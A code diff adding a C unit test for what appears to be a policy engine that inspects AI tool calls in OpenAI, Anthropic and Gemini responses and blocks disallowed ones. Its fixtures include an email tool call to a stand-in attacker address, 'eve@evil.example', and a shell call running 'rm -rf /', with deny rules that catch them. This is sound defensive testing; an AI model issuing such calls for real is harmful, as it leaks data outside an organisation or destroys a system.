@@ -7,6 +7,7 @@
 
 #include "policy.h"
 #include "request.h"
+#include "usage.h"
 
 static struct spop_slice S(const char *s)
 {
@@ -138,6 +139,92 @@ static void tools_offered(void **st)
 	in.ntools = 0;
 	in.tools_truncated = true;
 	assert_string_equal(verdict(&in), "no-shell"); /* too many to check: refused */
+}
+
+/* Responses as the providers' API references show them, each calling send_email. */
+static const char *openai_resp =
+	"{\"id\":\"chatcmpl-1\",\"object\":\"chat.completion\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
+	"\"content\":null,\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"get_weather\","
+	"\"arguments\":\"{\\\"city\\\":\\\"Paris\\\"}\"}},{\"id\":\"call_2\",\"type\":\"function\",\"function\":"
+	"{\"name\":\"send_email\",\"arguments\":\"{\\\"to\\\":\\\"eve@evil.example\\\",\\\"body\\\":\\\"the \\\\\\\"list\\\\\\\"\\\"}\"}}]},"
+	"\"finish_reason\":\"tool_calls\"}],\"usage\":{\"prompt_tokens\":5,\"completion_tokens\":7}}";
+static const char *anthropic_resp =
+	"{\"id\":\"msg_1\",\"type\":\"message\",\"content\":[{\"type\":\"text\",\"text\":\"Sending.\"},"
+	"{\"type\":\"tool_use\",\"id\":\"toolu_1\",\"name\":\"send_email\",\"input\":{\"to\":\"eve@evil.example\","
+	"\"cc\":{\"addr\":\"x@corp.example\"}}}],\"stop_reason\":\"tool_use\"}";
+static const char *gemini_resp =
+	"{\"candidates\":[{\"content\":{\"role\":\"model\",\"parts\":[{\"functionCall\":{\"name\":\"send_email\","
+	"\"args\":{\"to\":\"eve@evil.example\",\"priority\":3}}}]},\"finishReason\":\"STOP\"}]}";
+
+static void tool_calls_in_responses(void **st)
+{
+	(void)st;
+	struct tool_call calls[8];
+	char scratch[4096];
+	int n = tool_calls_extract(SHAPE_OPENAI, S(openai_resp), calls, 8, scratch, sizeof(scratch));
+	assert_int_equal(n, 2);
+	assert_true(SPOP_SLICE_IS(calls[1].name, "send_email"));
+	assert_true(SPOP_SLICE_IS(calls[1].args, "{\"to\":\"eve@evil.example\",\"body\":\"the \\\"list\\\"\"}"));
+	assert_int_equal(tool_calls_extract(SHAPE_ANTHROPIC, S(anthropic_resp), calls, 8, scratch, sizeof(scratch)), 1);
+	assert_true(SPOP_SLICE_IS(calls[0].name, "send_email"));
+	assert_int_equal(tool_calls_extract(SHAPE_GEMINI, S(gemini_resp), calls, 8, scratch, sizeof(scratch)), 1);
+	assert_int_equal(tool_calls_extract(SHAPE_OPENAI, S("{\"choices\":[{\"message\":{\"content\":\"hi\"}}]}"), calls, 8,
+	                                    scratch, sizeof(scratch)), 0);
+	assert_int_equal(tool_calls_extract(SHAPE_OPENAI, S("not json"), calls, 8, scratch, sizeof(scratch)), 0);
+	assert_int_equal(tool_calls_extract(SHAPE_OPENAI, S(openai_resp), calls, 8, scratch, 20), -1); /* cannot read whole */
+
+	load("{\"rules\":[{\"id\":\"no-mail-out\",\"tool_calls\":[{\"name\":\"send_*\",\"args\":[{\"path\":\"to\","
+	     "\"not_in\":[\"*@corp.example\"]}]}]},"
+	     "{\"id\":\"no-rm\",\"tool_calls\":[{\"name\":\"shell\",\"args\":[{\"path\":\"cmd\",\"regex\":\"^rm( |$)\"}]}]},"
+	     "{\"id\":\"prio\",\"tool_calls\":[{\"name\":\"send_email\",\"args\":[{\"path\":\"priority\",\"equals\":\"3\"}]}],"
+	     "\"shadow\":true},"
+	     "{\"id\":\"cc\",\"tool_calls\":[{\"name\":\"send_email\",\"args\":[{\"path\":\"cc.addr\",\"glob\":\"*@corp.*\"}]}]}]}");
+	struct policy_input in = input("openai", "m");
+	struct policy_result r;
+	const char *bodies[] = { openai_resp, anthropic_resp, gemini_resp };
+	enum err_shape shapes[] = { SHAPE_OPENAI, SHAPE_ANTHROPIC, SHAPE_GEMINI };
+	for (int i = 0; i < 3; i++) {
+		n = tool_calls_extract(shapes[i], S(bodies[i]), calls, 8, scratch, sizeof(scratch));
+		policy_eval_calls(&pol, &in, calls, n, &r);
+		assert_non_null(r.deny);
+		assert_string_equal(r.deny->id, "no-mail-out");
+		assert_non_null(strstr(r.why, "send_email"));
+	}
+	/* To an allowed address: the next rules decide. Anthropic's cc matches "cc"; Gemini's
+	 * priority matches the shadow rule only. */
+	struct tool_call ok = { S("send_email"), S("{\"to\":\"bob@corp.example\",\"cc\":{\"addr\":\"a@corp.example\"}}") };
+	policy_eval_calls(&pol, &in, &ok, 1, &r);
+	assert_string_equal(r.deny->id, "cc");
+	struct tool_call prio = { S("send_email"), S("{\"to\":\"bob@corp.example\",\"priority\":3}") };
+	policy_eval_calls(&pol, &in, &prio, 1, &r);
+	assert_null(r.deny);
+	assert_int_equal(r.nshadow, 1);
+	assert_string_equal(r.shadow[0]->id, "prio");
+	struct tool_call rm = { S("shell"), S("{\"cmd\":\"rm -rf /\"}") }, ls = { S("shell"), S("{\"cmd\":\"ls\"}") };
+	policy_eval_calls(&pol, &in, &rm, 1, &r);
+	assert_string_equal(r.deny->id, "no-rm");
+	policy_eval_calls(&pol, &in, &ls, 1, &r);
+	assert_null(r.deny);
+	/* An argument that is not there: the condition does not hold. */
+	struct tool_call noto = { S("send_email"), S("{}") };
+	policy_eval_calls(&pol, &in, &noto, 1, &r);
+	assert_null(r.deny);
+	assert_true(pol.has_tool_calls);
+
+	const char *bad[] = {
+		"{\"rules\":[{\"id\":\"a\",\"tool_calls\":[{\"name\":\"x\",\"args\":[{\"path\":\"p\",\"regex\":\"(\"}]}]}]}",
+		"{\"rules\":[{\"id\":\"a\",\"tool_calls\":[{\"name\":\"x\",\"args\":[{\"path\":\"p\",\"like\":\"y\"}]}]}]}",
+		"{\"rules\":[{\"id\":\"a\",\"tool_calls\":[]}]}",
+		"{\"rules\":[{\"id\":\"a\",\"tool_calls\":[{\"nom\":\"x\"}]}]}",
+	};
+	const char *want[] = { "regex: not a valid", "like: unknown condition", "tool_calls: expected a list", "tool_calls[0]" };
+	for (int i = 0; i < 4; i++) {
+		struct policy p;
+		char err[256];
+		assert_int_equal(policy_parse(bad[i], strlen(bad[i]), &p, err, sizeof(err)), -1);
+		if (!strstr(err, want[i]))
+			fail_msg("%d: '%s' lacks '%s'", i, err, want[i]);
+	}
 }
 
 static void shadow_mode(void **st)
@@ -281,6 +368,7 @@ int main(void)
 		cmocka_unit_test(limits_stream_and_headers),
 		cmocka_unit_test(scoping_and_order),
 		cmocka_unit_test(tools_offered),
+		cmocka_unit_test(tool_calls_in_responses),
 		cmocka_unit_test(shadow_mode),
 		cmocka_unit_test(parse_errors_name_the_path),
 		cmocka_unit_test(shipped_policies_parse),
